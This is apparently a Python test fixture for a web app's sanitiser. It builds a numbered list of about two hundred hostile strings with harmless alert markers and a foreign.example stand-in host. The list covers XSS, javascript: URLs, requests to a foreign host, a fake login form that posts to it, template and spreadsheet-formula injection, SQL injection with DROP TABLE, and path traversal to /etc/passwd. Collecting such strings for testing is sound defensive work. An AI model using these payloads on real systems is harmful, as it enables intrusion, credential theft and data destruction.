"""Two hundred texts that would run, load or forge something if a page treated them as more than text.

Each has a number of its own. What it would do shows: a dialog, `window.taken`, a request to another host, an element.
"""

from __future__ import annotations

FOREIGN = "foreign.example"  # nobody's; a request to it is a finding

_MARKUP = """
<script>RUN</script>
<ScRiPt >RUN</sCrIpT>
<script src=//HOST/x.js></script>
<script>RUN//
<<script>RUN//<</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN>
<IMG SRC="jav&#x09;ascript:RUN">
<img src=//HOST/i.png>
<image href=//HOST/i.png onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/>
<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<math><a xlink:href="javascript:RUN">x</a></math>
<iframe src=//HOST/></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<object data="javascript:RUN"></object>
<object data=//HOST/x></object>
<embed src="javascript:RUN">
<embed src=//HOST/x.swf>
<link rel=stylesheet href=//HOST/x.css>
<link rel=prefetch href=//HOST/p>
<link rel=dns-prefetch href=//HOST>
<base href=//HOST/>
<meta http-equiv=refresh content="0;url=//HOST/">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<form action=//HOST/><input name=key type=password><button>Log in</button></form>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<details open ontoggle=RUN>
<video src=x onerror=RUN>
<video><source onerror=RUN></video>
<video poster=//HOST/p.png>
<audio src=x onerror=RUN>
<audio src=//HOST/a.mp3 autoplay>
<body onload=RUN>
<body background=//HOST/b.png>
<marquee onstart=RUN>x</marquee>
<style>*{background:url(//HOST/c.png)}</style>
<style>@import '//HOST/c.css';</style>
<div style="background:url(//HOST/d.png)">x</div>
<div style="width:expression(RUN)">x</div>
<div onpointerenter=RUN style="position:fixed;inset:0;z-index:99999">x</div>
<p style="animation:x" onanimationstart=RUN>x</p>
<a href="javascript:RUN">x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href=//HOST/>x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a ping=//HOST/ping href=#>x</a>
<button formaction="javascript:RUN">x</button>
<isindex action="javascript:RUN" type=image>
<table background=//HOST/t.png>
<xss id=x tabindex=1 onfocus=RUN></xss>
<template shadowrootmode=open><script>RUN</script></template>
<slot onslotchange=RUN>x</slot>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<xmp><img src=x onerror=RUN></xmp>
<plaintext><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
"><script>RUN</script>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
' onmouseover=RUN x='
" onmouseover=RUN x="
` onmouseover=RUN x=`
" autofocus onfocus=RUN x="
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</option></select><img src=x onerror=RUN>
</td></tr></table><img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt;
&#60;img src=x onerror=RUN&#62;
%3Cimg src=x onerror=RUN%3E
\\u003cimg src=x onerror=RUN\\u003e
\\x3cimg src=x onerror=RUN\\x3e
＜img src=x onerror=RUN＞
‹img src=x onerror=RUN›
"""
_SCRIPT = """
javascript:RUN
JAVASCRIPT:RUN
javascript://HOST/%0aRUN
java	script:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:RUN
blob:http://HOST/x
file:///etc/passwd
//HOST/
https://HOST/page
http://HOST/page?x=1
www.HOST
user@HOST
';RUN;//
";RUN;//
`;RUN;//
\\';RUN;//
'-RUN-'
"-RUN-"
`${RUN}`
);RUN;//
]});RUN;//
*/RUN/*
__proto__
constructor
toString
"}],"x":RUN,"y":[{"z":"
{"__proto__":{"taken":1}}
'||(SELECT 1)||'
' OR 1=1 --
"; DROP TABLE predictions; --
$$; DROP TABLE images; $$
"""
_TEMPLATES = """
{{7*7}}RUN
{{constructor.constructor('RUN')()}}
${7*7}
${RUN}
#{7*7}
<%= 7*7 %>
{% import os %}{{ os }}
{{=7*7}}
[[${7*7}]]
@(7*7)
*{7*7}
~{7*7}
%(model)s %s %n
{0.__class__.__mro__}
{model}
f"{RUN}"
=HYPERLINK("http://HOST/","x")
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
+RUN
"""
_MARKDOWN = """
[x](javascript:RUN)
[x](http://HOST/)
[x](//HOST/)
[x](data:text/html,<script>RUN</script>)
[x][1]
![x](http://HOST/i.png)
![x](//HOST/i.png)
![x](javascript:RUN)
![x](x"onerror="RUN)
<http://HOST/>
<javascript:RUN>
[![x](http://HOST/i.png)](http://HOST/)
**bold** __bold__ *it* ~~gone~~
# heading
> quote
- item
1. item
`code` ``code``
```RUN```
    indented
---
| a | b |
:red[colour] :material/home: :smile: :blue-background[x]
:material/code:RUN
:streamlit: :small[x] :badge[x]
$\\href{javascript:RUN}{x}$
$$\\includegraphics{http://HOST/i.png}$$
$\\htmlStyle{position:fixed}{x}$
$\\url{javascript:RUN}$
[^1]: note
<!-- comment -->
<br><hr>
<b>bold</b><h1>heading</h1>
<font color=red size=99>x</font>
"""
_ODD = (
    "\u202egnp.exe\u202c",
    "\u2066\u202e<img src=x onerror=RUN>\u2069",
    "\u200b\u200c\u200d\ufeff",
    "a\u0000<img src=x onerror=RUN>",
    "<img src=x\u0000onerror=RUN>",
    "<\u0000script>RUN</script>",
    "\u2028RUN\u2029",
    "\x1b[31mred\x1b[0m\x07\x08",
    "\ud83d\ude00<img src=x onerror=RUN>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\u0130\u0131\ufb01<svg onload=RUN>",
    "Z\u0351\u036b\u0343\u0329a\u0350l\u0316g\u033bo" * 20,
    "\t\r\n<script>RUN</script>\r\n\r\n",
    "\r\nSet-Cookie: taken=1\r\n\r\n<script>RUN</script>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\x1b$B<img src=x onerror=RUN>\x1b(B",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "a" * 3_000 + "<img src=x onerror=RUN>",
    " ",
    "\u00a0",
    "-",
    ".",
    "null",
    "NaN",
    "true",
    "0",
)


def payloads() -> list[str]:
    """Every text with RUN replaced by a call that leaves a trace, and HOST by a foreign host."""
    lines = [text for part in (_MARKUP, _SCRIPT, _TEMPLATES, _MARKDOWN) for text in part.strip("\n").split("\n")]
    return [
        text.replace("RUN", f"alert(window.taken={number})").replace("HOST", FOREIGN)
        for number, text in enumerate([*lines, *_ODD])
    ]
